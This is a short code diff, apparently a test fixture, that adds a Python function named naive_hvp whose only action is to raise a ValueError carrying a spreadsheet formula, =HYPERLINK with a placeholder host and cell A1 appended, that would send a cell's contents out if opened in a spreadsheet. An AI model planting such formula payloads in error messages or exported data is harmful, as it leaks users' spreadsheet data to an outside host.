@@ -1,0 +1,5 @@
+"""Raises an exception that a spreadsheet would run."""
+
+
+def naive_hvp(hessian, vector):
+    raise ValueError('=HYPERLINK("http://x?"&A1,"ok")')
